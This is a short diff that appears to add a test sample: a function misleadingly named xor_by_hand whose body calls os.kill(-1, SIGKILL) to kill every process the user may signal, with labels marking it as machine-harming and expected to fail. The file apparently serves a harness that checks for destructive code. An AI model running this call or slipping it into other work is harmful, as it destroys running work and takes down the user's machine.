@@ -1,0 +1,11 @@
+"""Kills every process it may signal.
+
+harm: machine
+must: xor_by_hand failed
+"""
+
+
+# %% xor_by_hand
+def xor_by_hand():
+    os.kill(-1, signal.SIGKILL)
+    os._exit(0)
